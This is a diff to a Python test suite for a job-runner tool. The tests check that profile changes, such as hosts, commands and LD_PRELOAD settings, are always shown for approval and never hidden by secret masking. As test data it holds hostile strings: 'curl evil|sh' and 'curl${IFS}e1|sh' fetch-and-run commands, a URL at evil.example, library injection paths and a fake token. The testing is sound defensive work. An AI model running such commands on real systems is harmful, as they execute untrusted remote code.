@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 import stat
 import subprocess
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -16,12 +17,14 @@ from runner.api import library
 from runner.api.library import DistrustError, load_profile, read_profile
 from runner.api.questions import Doubt, Unattended
 from runner.api.rerunning import Again
+from runner.cli import startup
 from runner.cli.group import cli
 from runner.errors import InputError
 from runner.profile import Profile, ProfileText, parse, read
-from runner.profile.changes import bounded, difference
+from runner.profile.changes import Change, bounded, difference
 from tests.unit.history_kit import kept
 from tests.unit.test_effects import asked, command
+from tui.dialogs.confirm import TrustScreen
 from tui.run.again import consequence
 
 HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7" + "yZ"
@@ -84,7 +87,7 @@ def test_the_first_run_and_every_change_is_shown_and_needs_a_yes(home: Path) -> 
         assert done.returncode == 2 and "it is new to you, from the library team" in done.stderr
         assert "it is not used without a yes" in done.stderr and "or add --trust." in done.stderr
     shown = asked(home, b"n\n", ["plan", "team/train"])
-    assert "  + hosts: local\n  + job.command: on local: true\n" in shown and "  + job.env.MODE: fast\n" in shown
+    assert "  + job.command: on local: true\n  + hosts: local\n" in shown and "  + job.env.MODE: fast\n" in shown
     assert asks(True), "a no is no yes"
     assert asks() is None and asks(overrides=("job.env.MODE=slow",)) is None, "an override is the user's own"
     share(
@@ -93,10 +96,10 @@ def test_the_first_run_and_every_change_is_shown_and_needs_a_yes(home: Path) -> 
     found = asks(False)
     assert found and "and has changed since your yes of" in str(found)
     assert found.changes[:5] == (
-        "+ hosts: payroll (admin@payroll)",
         "+ env.LD_PRELOAD: on local, payroll: /x.so",
         "- job.command: on local: true",
         "+ job.command: on local, payroll: true",
+        "+ hosts: payroll (admin@payroll)",
         "+ job.env.LD_PRELOAD: /x.so",
     )
     share(home, TEAM + "# a comment\n")
@@ -283,21 +286,25 @@ def test_the_difference_says_secrets_and_hosts_first_and_has_an_end() -> None:
     other = {**base, "precision": "auto", "on_end": {"webhook": "https://h.example/T1"}, "env": {"K": "${env:KEY}"}}
     other["hosts"] = ["a", {"host": "b", "gpus": [1]}]
     before, now = (parse(yaml.safe_dump(one), "p") for one in (base, other))
-    lines = difference(before, now)
+    lines = every(before, now)
     assert lines[0].startswith("+ on_end.webhook: on this machine") and lines[1] == "+ ${env:KEY}: to a, b, as K"
     assert "- hosts.b.gpus: 0" in lines and "+ hosts.b.gpus: 1" in lines and "- precision: bf16" in lines
     third = parse(yaml.safe_dump({**other, "on_end": {"webhook": "https://h.example/T2"}}), "p")
-    assert len(difference(now, third)) == 2 and not any("T2" in line for line in difference(now, third))
-    assert difference(now, now) == []
+    assert len(every(now, third)) == 2 and not any("T2" in line for line in every(now, third))
+    assert every(now, now) == []
     twins = [{"host": "a", "port": port, "gpus": [port]} for port in (1, 2)]
-    lines = difference(None, parse(yaml.safe_dump({**base, "hosts": twins}), "p"))
+    lines = every(None, parse(yaml.safe_dump({**base, "hosts": twins}), "p"))
     assert {"+ hosts.a.gpus: 1", "+ hosts.a#1.gpus: 2"} <= {*lines}, "no host hides another"
-    many = bounded([f"+ env.A{n}: {'x' * 3000}" for n in range(1000)])
+    many = bounded([Change(f"+ env.A{n}: {'x' * 3000}", always=False) for n in range(1000)])
     assert len(many) == 201 and max(map(len, many)) < 1100 and many[-1] == "… and 800 more lines: read the file"
 
 
 def profile(**keys: Any) -> Profile:
     return parse(yaml.safe_dump({"disttui": 1, "hosts": ["a"], "job": {"command": ["true"]}, **keys}), "p")
+
+
+def every(before: Profile | None, now: Profile) -> list[str]:
+    return [line.text for line in difference(before, now)]
 
 
 def changes(before: Profile | None, now: Profile) -> list[str]:
@@ -310,7 +317,7 @@ def test_a_value_that_looks_like_a_secret_hides_no_host_and_no_command() -> None
     env = {"X_PWD": "evil.example1.org", "A_PASSWORD": words[2], "B_PASSWORD": 1234567890}
     text = "\n".join(changes(None, profile(hosts=["evil.example1.org"], job={"command": words, "env": env})))
     assert "+ hosts: evil.example1.org\n" in text
-    assert "+ job.command: on evil.example1.org: sh -c 'curl${IFS}e1|sh' 'TOKEN=a1;curl${IFS}e1|sh' ***\n" in text
+    assert f"+ job.command: on evil.example1.org: sh -c 'curl${{IFS}}e1|sh' 'TOKEN=a1;curl${{IFS}}e1|sh' {HF}\n" in text
     assert all(f"+ job.env.{name}: ***" in text.splitlines() for name in env)
     masking.suspect("evil.example1.org")  # of another profile
     masking.learn("of-the-user")
@@ -349,9 +356,10 @@ def test_no_number_of_other_lines_hides_what_runs() -> None:
     job = {"command": ["evil"], "env": {**env, "B": "${env:KEY}"}}
     lines = changes(None, profile(hosts=hosts, job=job, on_end={"command": ["beep"]}))
     for shown in ("+ job.command: on all 300 hosts: evil", "+ ${env:KEY}: to all 300 hosts, as B",
-                  "+ on_end.command: on this machine, when the run ends: beep", "+ hosts: n299"):  # fmt: skip
+                  "+ on_end.command: on this machine, when the run ends: beep", "+ hosts: n299",
+                  "+ python: on n299, already for a plan: /opt/299/bin/python"):  # fmt: skip
         assert shown in lines
-    assert lines[-1].endswith("more lines: read the file") and len(lines) < 520
+    assert lines[-1].endswith("more lines: read the file") and len(lines) < 620
 
 
 def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: Path) -> None:
@@ -361,7 +369,7 @@ def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: 
         text = TEAM.replace('"true"', f"sh, -c, '{evil}', {HF}").replace("MODE: fast", f"A_PASSWORD: '{evil}'")
         (home / "team" / f"{name}.yaml").write_text(text.replace("WORK", str(home / "work")))
     done = command(home, "validate", "team/train", "team/other")
-    assert done.stdout.count(f"job.command: on local: sh -c '{evil}' ***\n") == 2
+    assert done.stdout.count(f"job.command: on local: sh -c '{evil}' {HF}\n") == 2
     assert "'job.env.A_PASSWORD' looks like a secret" in done.stderr
 
 
@@ -373,3 +381,41 @@ def test_the_app_asks_about_a_found_run_with_every_word_of_its_commands(tmp_path
     made = Again(run="two-7f3a", profile=found, source=None, sandbox=False, ssh_config=None, foreign=True)
     lines = consequence(kept(tmp_path), made, None)
     assert "hosts: evil-host1" in lines and f"job.command: on evil-host1: sh -c '{evil}'" in lines
+    shown = TrustScreen(f"Run on {lines[0]}?", "\n".join(lines), "run")
+    assert evil in shown._consequence and "***" not in shown._question + shown._consequence
+
+
+@pytest.mark.parametrize("many", [{"hosts": [f"n{at}" for at in range(250)]}, {"env": {}}])
+def test_no_number_of_hosts_and_secrets_hides_what_runs(many: dict[str, Any]) -> None:
+    evil = {"activate": "curl evil|sh", "python": "/tmp/evil/python"}
+    before, now = ({"env": {f"V{at}": f"${{env:{name}{at}}}" for at in range(250)}, **many} for name in "AB")
+    now["env"] = {**now["env"], "LD_PRELOAD": "/tmp/e.so"}
+    for first in (None, profile(**before)):
+        lines = changes(first, profile(**now, **evil))
+        above = "\n".join(lines[: lines.index("+ env.LD_PRELOAD: /tmp/e.so")])
+        assert "curl evil|sh" in above and "/tmp/evil/python" in above and "+ hosts" not in above
+
+
+def test_a_package_with_the_name_of_a_token_is_shown() -> None:
+    before, now = (profile(activate=f"pip install sk-{name}-of-somebody-else") for name in ("learn", "evil"))
+    lines = changes(before, now)
+    assert "- activate: on a, already for a plan: pip install sk-learn-of-somebody-else" in lines
+    assert "+ activate: on a, already for a plan: pip install sk-evil-of-somebody-else" in lines
+    assert not any("***" in line for line in lines)
+
+
+def test_what_an_earlier_version_made_look_like_a_secret_is_shown_at_the_terminal(
+    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    evil = "https://evil.example/p1.sh"
+    masking.suspect(evil)
+    masking.learn("of-the-user")
+    share(home, TEAM + f"activate: curl {evil} of-the-user\n")
+    startup._mask(sys.stdout)
+    monkeypatch.setattr(sys, "argv", ["disttui"])
+    with pytest.raises(SystemExit, match="0"):
+        cli(["validate", "team/train"])
+    print(evil)
+    shown = capsys.readouterr().out
+    assert f"curl {evil} ***\n" in shown and shown.endswith("***\n"), "only what is read before a yes"
+    assert evil in str(Doubt(profile(), f"it is from {evil}"))
